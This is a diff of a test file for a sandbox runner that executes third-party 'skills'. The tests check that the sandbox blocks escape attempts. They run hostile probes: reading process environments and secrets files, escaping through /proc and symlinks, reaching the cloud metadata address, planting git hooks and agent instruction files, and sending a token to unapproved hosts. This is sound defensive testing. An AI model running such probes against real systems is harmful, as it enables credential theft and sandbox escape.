@@ -1,5 +1,21 @@
+import { chmodSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { type AddressInfo, createServer, type Server } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { crm, giveToken, makeTestHost, runTest, startUpstream, type TestHost } from './sandbox-fixture.ts';
+import { verifyAudit } from '../../runner/audit.ts';
+import { runSkill } from '../../runner/run.ts';
+import {
+  crm,
+  giveTo,
+  giveToken,
+  makeTestHost,
+  reportsMount,
+  requestFor,
+  runTest,
+  startUpstream,
+  type TestHost,
+  tryIt,
+} from './sandbox-fixture.ts';
 
 let host: TestHost;
 beforeEach(() => {
@@ -8,42 +24,370 @@ beforeEach(() => {
 afterEach(() => host.remove());
 
 describe('what a command sees', () => {
-  it('runs TypeScript, Python and shell with nothing of the runner in its environment', async () => {
+  it.each([
+    [
+      'probe.ts',
+      `import { readFileSync } from 'node:fs'; const n: number = 1; console.log(process.env, readFileSync('/proc/1/environ', 'latin1'), n);`,
+    ],
+    ['probe.py', `import os\nprint(dict(os.environ), open('/proc/1/environ').read(), open('/proc/2/environ').read())`],
+    ['probe.sh', `read -r all < /proc/1/environ; echo "$all"; set`],
+  ])('runs %s with nothing of the runner in its environment', async (name, content) => {
     process.env.CANARY_OF_RUNNER = 'seven-swans';
-    const script = {
-      'probe.ts': `import { readFileSync } from 'node:fs'; const n: number = 1;
-        console.log(JSON.stringify(process.env), readFileSync('/proc/1/environ', 'latin1'), readFileSync('/proc/self/environ', 'latin1'), n);`,
-      'probe.py': `import os\nprint(dict(os.environ), open('/proc/1/environ').read(), os.listdir('/usr/bin'))`,
-      'probe.sh': `read -r all < /proc/1/environ; echo "$all"; set; echo /usr/bin/*`,
-    };
-    for (const [name, content] of Object.entries(script)) {
-      const run = await runTest(host, { files: { [name]: content } });
-      expect(run.stderr).toBe('');
-      expect(run).toMatchObject({ reason: 'exit', code: 0 });
-      expect(run.stdout).not.toContain('seven-swans');
-    }
+    const run = await runTest(host, { files: { [name]: content } });
+    expect(run.stderr).toBe('');
+    expect(run).toMatchObject({ reason: 'exit', code: 0 });
+    expect(run.stdout).not.toMatch(/seven-swans|CANARY_OF_RUNNER/);
+  });
+
+  it('gives arguments, input, env, exit code and both outputs', async () => {
+    const run = await runTest(
+      host,
+      {
+        files: { 'probe.sh': 'read -r line; echo "$1 $line $TZ $PWD"; echo warned >&2; exit 9' },
+        capabilities: { env: [{ name: 'TZ', why: 'dates' }] },
+      },
+      { args: ['first'], stdin: Buffer.from('second\n') },
+      { env: { TZ: 'UTC' } },
+    );
+    expect(run).toMatchObject({ stdout: 'first second UTC /tmp\n', stderr: 'warned\n', code: 9, reason: 'exit' });
+  });
+
+  it('has no program beside its interpreter, no descriptor beside its streams, and files that are read-only', async () => {
+    const rows = await tryIt(host, {
+      programs: `sorted(os.listdir('/usr/bin'))`,
+      descriptors: `[n for n in sorted(os.listdir('/proc/self/fd')) if os.path.exists('/proc/self/fd/'+n) and not os.readlink('/proc/self/fd/'+n).startswith(('/proc', '/dev/null'))]`,
+      mode: `oct(os.stat('/skills/@acme/probe/probe.py').st_mode & 0o7777)`,
+      write: `open('/skills/@acme/probe/probe.py', 'a')`,
+      new: `open('/skills/x', 'w')`,
+      chmod: `os.chmod('/skills/@acme/probe/probe.py', 0o777)`,
+      usr: `open('/usr/bin/python3', 'a')`,
+    });
+    expect(rows).toMatchObject({ programs: ['python3'], descriptors: ['0', '1', '2'], mode: '0o755' });
+    for (const name of ['write', 'new', 'chmod', 'usr']) expect(rows[name], name).toMatch(/^(30|13) /);
+  });
+
+  it('finds no file of the host by any road, though the same reading works outside', async () => {
+    const canary = `${host.folder}/canary`;
+    writeFileSync(canary, 'nightingale');
+    chmodSync(host.folder, 0o755);
+    const roads = Object.fromEntries(
+      ['', '/proc/self/root', '/proc/1/root', '/proc/1/cwd/..', '/reports/..'].map((road) => [
+        road,
+        `open('${road}${canary}').read()`,
+      ]),
+    );
+    const skill = { capabilities: { mount: reportsMount('rw') } };
+    writeFileSync(`${host.reports}/plain`, 'x');
+    symlinkSync(canary, `${host.reports}/leads-out`);
+    const rows = await tryIt(
+      host,
+      { ...roads, link: `open('/reports/leads-out').read()`, secrets: `open('${host.paths.config}/secrets.json')` },
+      skill,
+    );
+    for (const [road, result] of Object.entries(rows)) expect(result, road).toMatch(/^2 /);
+    expect(await tryIt(host, { '': roads[''] ?? '' }, { unsafe: true })).toEqual({ '': 'nightingale' });
+  });
+});
+
+describe('limits', () => {
+  it('ends a run at its seconds with everything that it started, also what left its session', async () => {
+    const run = await runTest(host, {
+      files: {
+        'probe.py': `
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        while True:
+            open('/reports/beat', 'a').write('x'); time.sleep(0.02)
+    os._exit(0)
+time.sleep(60)`,
+      },
+      capabilities: { mount: reportsMount('rw') },
+      limits: { seconds: 1, memoryMiB: 128 },
+    });
+    expect(run).toMatchObject({ reason: 'limit:seconds', code: null });
+    const beats = readFileSync(`${host.reports}/beat`, 'utf8').length;
+    expect(beats).toBeGreaterThan(5);
+    await sleep(200);
+    expect(readFileSync(`${host.reports}/beat`, 'utf8')).toHaveLength(beats);
+  });
+
+  it('ends a run that floods its output', async () => {
+    const run = await runTest(host, {
+      files: { 'probe.sh': 'while :; do echo 0123456789012345678901234567890123456789012345678901234567890; done' },
+    });
+    expect(run.reason).toBe('limit:output');
+    expect(run.stdout.length).toBe(run.plan.limits.outputBytes);
+  });
+
+  it('stops a command that takes more memory than it may', async () => {
+    const run = await runTest(host, {
+      files: { 'probe.py': 'x = bytearray(1 << 30)\nprint(len(x))' },
+      limits: { seconds: 20, memoryMiB: 64 },
+    });
+    expect(run.stdout).toBe('');
+    expect(run.reason === 'limit:memory' || run.stderr.includes('MemoryError')).toBe(true);
+  });
+
+  it('stops when it is told to', async () => {
+    const stop = new AbortController();
+    setTimeout(() => stop.abort(), 300);
+    const run = await runTest(host, { files: { 'probe.sh': 'read -r line < /dev/zero' } }, { signal: stop.signal });
+    expect(run.reason).toBe('killed');
+  });
+});
+
+describe('a writable mount', () => {
+  const skill = (content: string) => ({ files: { 'probe.py': content }, capabilities: { mount: reportsMount('rw') } });
+
+  it('keeps shut what hosts and agents obey, there or not, and leaves no trace of that', async () => {
+    mkdirSync(`${host.reports}/.git/hooks`, { recursive: true });
+    mkdirSync(`${host.reports}/deep/er`, { recursive: true });
+    writeFileSync(`${host.reports}/.git/config`, '[core]');
+    writeFileSync(`${host.reports}/deep/er/AGENTS.md`, 'be kind');
+    giveTo(host.reports);
+    const before = readdirSync(host.reports, { recursive: true });
+    const rows = await tryIt(
+      host,
+      {
+        hook: `open('/reports/.git/hooks/pre-commit', 'w')`,
+        config: `open('/reports/.git/config', 'a')`,
+        'rename git': `os.rename('/reports/.git', '/reports/moved')`,
+        'nested agents': `open('/reports/deep/er/AGENTS.md', 'w')`,
+        'rename above': `os.rename('/reports/deep', '/reports/moved')`,
+        'unlink agents': `os.unlink('/reports/deep/er/AGENTS.md')`,
+        claude: `open('/reports/CLAUDE.md', 'w')`,
+        'claude folder': `open('/reports/.claude/settings.json', 'w')`,
+        package: `os.symlink('/x', '/reports/package.json')`,
+      },
+      { capabilities: { mount: reportsMount('rw') } },
+    );
+    for (const [name, result] of Object.entries(rows)) expect(result, name).toMatch(/^(30|16|17|1|13) /);
+    expect(readdirSync(host.reports, { recursive: true })).toEqual(before);
+  });
+
+  it('lets an ordinary file be written, owned by the folder’s owner', async () => {
+    const run = await runTest(host, skill(`open('/reports/report.md', 'w').write('done')`));
+    expect(run).toMatchObject({ code: 0, cleaned: [], files: { created: 1, changed: 0, removed: 0 } });
+    expect(readFileSync(`${host.reports}/report.md`, 'utf8')).toBe('done');
+    expect(lstatSync(`${host.reports}/report.md`).uid).toBe(lstatSync(host.reports).uid);
+  });
+
+  it('loses links that leave it, sockets, pipes, setuid bits and new files that agents obey', async () => {
+    writeFileSync(`${host.reports}/old`, 'x');
+    giveTo(host.reports);
+    const run = await runTest(
+      host,
+      skill(`
+import os, stat
+os.symlink('/etc/passwd', '/reports/absolute'); os.symlink('../../x', '/reports/up'); os.symlink('old', '/reports/inside')
+os.mkfifo('/reports/pipe'); os.mknod('/reports/socket', stat.S_IFSOCK | 0o644)
+open('/reports/tool', 'w').write('#!/bin/sh'); os.chmod('/reports/tool', 0o6755); os.chmod('/reports/old', 0o4755)
+os.makedirs('/reports/shut/.husky'); open('/reports/shut/.husky/pre-commit', 'w'); os.symlink('/etc', '/reports/shut/etc'); os.chmod('/reports/shut', 0)
+`),
+    );
+    expect(run.stderr).toBe('');
+    expect(run.cleaned.map((one) => one.path.slice('/reports/'.length)).sort()).toEqual([
+      'absolute',
+      'old',
+      'pipe',
+      'shut/.husky',
+      'shut/etc',
+      'socket',
+      'tool',
+      'up',
+    ]);
+    expect(readdirSync(host.reports).sort()).toEqual(['inside', 'old', 'shut', 'tool']);
+    expect(readdirSync(`${host.reports}/shut`)).toEqual([]);
+    for (const name of ['old', 'tool']) expect(lstatSync(`${host.reports}/${name}`).mode & 0o7777, name).toBe(0o755);
+    expect(host.audit().filter((entry) => entry.event === 'cleanup')).toHaveLength(8);
+  });
+
+  it('that belongs to root is refused by a runner that is root, with the line to type', async () => {
+    const request = requestFor(host, skill(''), { workspaces: { reports: '/work-of-root' } });
+    if (process.getuid?.() !== 0) return;
+    const rootOwned = `${host.folder}/of-root`;
+    mkdirSync(rootOwned);
+    await expect(
+      runSkill({ ...request, hostPolicy: { ...request.hostPolicy, workspaces: { reports: rootOwned } } }),
+    ).rejects.toMatchObject({
+      code: 'mount-owner-root',
+      hint: `chown -R 65534:65534 ${rootOwned}`,
+    });
+  });
+
+  it.each(['config', 'data', 'cache', '.'])('is never the folder %s of Skillgate or one above it', async (name) => {
+    const request = requestFor(host, skill(''), { workspaces: { reports: `${host.folder}/${name}` } });
+    await expect(runSkill(request)).rejects.toMatchObject({ code: 'plan-refused' });
+    expect(host.audit().map((entry) => entry.event)).toEqual(['refused']);
+  });
+
+  it('is written by one run at a time, and the log of all runs stays whole', async () => {
+    const one = `
+import os, time
+assert not os.path.exists('/reports/busy'); open('/reports/busy', 'w'); time.sleep(0.2); os.unlink('/reports/busy')`;
+    const runs = await Promise.all([1, 2, 3].map(() => runTest(host, skill(one))));
+    expect(runs.map((run) => run.stderr)).toEqual(['', '', '']);
+    expect(verifyAudit(host.auditFile)).toEqual({ kind: 'whole', lines: 6 });
+  });
+});
+
+describe('bytes that are not the approved ones', () => {
+  it('never start', async () => {
+    const request = requestFor(host, { files: { 'probe.sh': 'echo approved' } });
+    const [path] = [...request.skill.contents.keys()].filter((one) => one.endsWith('.sh'));
+    const contents = new Map(request.skill.contents);
+    if (path !== undefined) contents.set(path, Buffer.from('echo replaced'));
+    await expect(runSkill({ ...request, skill: { ...request.skill, contents } })).rejects.toMatchObject({
+      code: 'bundle-invalid',
+    });
+    expect(request.out).toEqual([]);
+    expect(host.audit()).toMatchObject([{ event: 'refused', code: 'bundle-invalid', skill: '@acme/probe' }]);
+  });
+});
+
+describe('the network of a command', () => {
+  let listener: Server;
+  let visits = 0;
+  beforeEach(async () => {
+    visits = 0;
+    listener = createServer((socket) => {
+      visits++;
+      socket.end('hello');
+    });
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+  });
+  afterEach(() => listener.close());
+
+  it('has no way to a listener on the host, though the same code reaches it outside', async () => {
+    const { port } = listener.address() as AddressInfo;
+    const direct = { tcp: `socket.create_connection(('127.0.0.1', ${port}), 2).recv(5)` };
+    expect(await tryIt(host, direct, { unsafe: true })).toEqual({ tcp: 'hello' });
+    expect(visits).toBe(1);
+    const rows = await tryIt(
+      host,
+      {
+        ...direct,
+        metadata: `socket.create_connection(('169.254.169.254', 80), 2)`,
+        public: `socket.create_connection(('192.0.2.1', 443), 2)`,
+        dns: `socket.getaddrinfo('api.crm.example', 80)`,
+        udp: `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))`,
+        raw: `socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)`,
+        unix: `socket.socket(socket.AF_UNIX)`,
+        packet: `socket.socket(socket.AF_PACKET)`,
+        vsock: `socket.socket(socket.AF_VSOCK)`,
+        netlink: `socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)`,
+        alg: `socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)`,
+      },
+      { capabilities: { egress: crm.egress } },
+      { hosts: { 'api.crm.example': { address: '127.0.0.1', port } } },
+    );
+    for (const [name, result] of Object.entries(rows)) expect(result, name).toMatch(/^(-\d+|1|97|101|111) /);
+    expect(visits).toBe(1);
   });
 });
 
 describe('the egress of a command', () => {
-  it('puts the secret on the request upstream and keeps it out of the sandbox', async () => {
+  const fetching = (line: string) => ({
+    files: { 'probe.ts': `const token = process.env.CRM_TOKEN; const r = await ${line}; console.log(r.status, await r.text());` },
+    capabilities: {
+      ...crm,
+      egress: [...crm.egress, { url: 'http://open.example/*', methods: ['GET', 'POST'], why: 'test' }],
+      mount: reportsMount('rw'),
+    },
+  });
+
+  it('puts the secret on the request upstream, and the sandbox never sees it, not even echoed', async () => {
     giveToken(host, 'real-token-0123456789');
-    const upstream = await startUpstream((request) => `echo ${request.headers.authorization}`);
+    const upstream = await startUpstream(
+      (request) => `${request.headers.authorization} ${Buffer.from(request.headers.authorization ?? '').toString('base64')}`,
+    );
+    const skill = fetching(`fetch('http://api.crm.example/v2/deals?x=1', { headers: { Authorization: 'Bearer ' + token } })`);
+    const run = await runTest(host, skill, {}, { hosts: { 'api.crm.example': { address: '127.0.0.1', port: upstream.port } } });
+    upstream.close();
+    expect(upstream.seen).toEqual(['GET /v2/deals?x=1 Bearer real-token-0123456789 ']);
+    expect(run.stdout).toMatch(/^200 Bearer skillgate-secret-[0-9a-f]{32} /);
+    expect(run.stdout).not.toContain(Buffer.from('real-token-0123456789').toString('base64').slice(3, 20));
+    expect(host.audit().map((entry) => entry.event)).toEqual(['start', 'egress', 'redacted', 'exit']);
+    expect(readFileSync(host.auditFile, 'utf8')).not.toMatch(/real-token|x=1/);
+    expect(verifyAudit(host.auditFile)).toMatchObject({ kind: 'whole' });
+  });
+
+  it.each([
+    [
+      'a host that was not approved',
+      `fetch('http://stranger.example/').catch((e) => ({ status: 0, text: () => String(e.cause) }))`,
+      0,
+      'host_denied',
+    ],
+    [
+      'an approved host over TLS',
+      `fetch('https://api.crm.example/v2/x').catch((e) => ({ status: 0, text: () => String(e.cause) }))`,
+      0,
+      'port_denied',
+    ],
+    ['another method', `fetch('http://api.crm.example/v2/x', { method: 'DELETE' })`, 405, 'method_denied'],
+    ['another path', `fetch('http://api.crm.example/v1/x')`, 403, 'path_denied'],
+    [
+      'the token at another host',
+      `fetch('http://open.example/', { headers: { authorization: 'Bearer ' + token } })`,
+      403,
+      'secret_unbound',
+    ],
+    ['the token in the address', `fetch('http://api.crm.example/v2/x?t=' + token)`, 403, 'secret_unbound'],
+    [
+      'the token in the body',
+      `fetch('http://api.crm.example/v2/x', { method: 'POST', body: 'x'.repeat(70000) + token })`,
+      403,
+      'secret_unbound',
+    ],
+    [
+      'the token in another header',
+      `fetch('http://api.crm.example/v2/x', { headers: { 'x-token': token } })`,
+      403,
+      'secret_unbound',
+    ],
+  ])('is refused for %s, nothing reaches upstream, and the log says why', async (_, line, status, why) => {
+    giveToken(host, 'real-token-0123456789');
+    const upstream = await startUpstream();
+    const address = { address: '127.0.0.1', port: upstream.port };
+    const run = await runTest(
+      host,
+      fetching(line),
+      {},
+      { hosts: { 'api.crm.example': address, 'open.example': address, 'stranger.example': address } },
+    );
+    upstream.close();
+    expect(upstream.seen).toEqual([]);
+    expect(run.stdout).toContain(`${status} `);
+    expect(run.egress).toEqual({ allowed: 0, denied: 1 });
+    expect(host.audit()).toContainEqual(
+      expect.objectContaining({
+        event: 'egress',
+        decision: 'denied',
+        why,
+        agent: 'operator',
+        skill: '@acme/probe',
+        version: '1.0.0',
+      }),
+    );
+  });
+
+  it('works for Python through the proxy variables', async () => {
+    const upstream = await startUpstream();
     const run = await runTest(
       host,
       {
         files: {
-          'probe.ts': `const r = await fetch('http://api.crm.example/v2/deals?x=1', { headers: { Authorization: 'Bearer ' + process.env.CRM_TOKEN } });
-            console.log(r.status, await r.text());`,
+          'probe.py': `import urllib.request\nprint(urllib.request.urlopen('http://api.crm.example/v2/deals').read().decode())`,
         },
-        capabilities: crm,
+        capabilities: { egress: crm.egress },
       },
       {},
       { hosts: { 'api.crm.example': { address: '127.0.0.1', port: upstream.port } } },
     );
     upstream.close();
-    expect(run.stderr).toBe('');
-    expect(upstream.seen).toEqual(['GET /v2/deals?x=1 Bearer real-token-0123456789 ']);
-    expect(run.stdout).toMatch(/^200 echo Bearer skillgate-secret-[0-9a-f]{32}\n$/);
+    expect(run).toMatchObject({ stdout: '{"deals":[1,2]}\n', stderr: '', code: 0 });
   });
 });
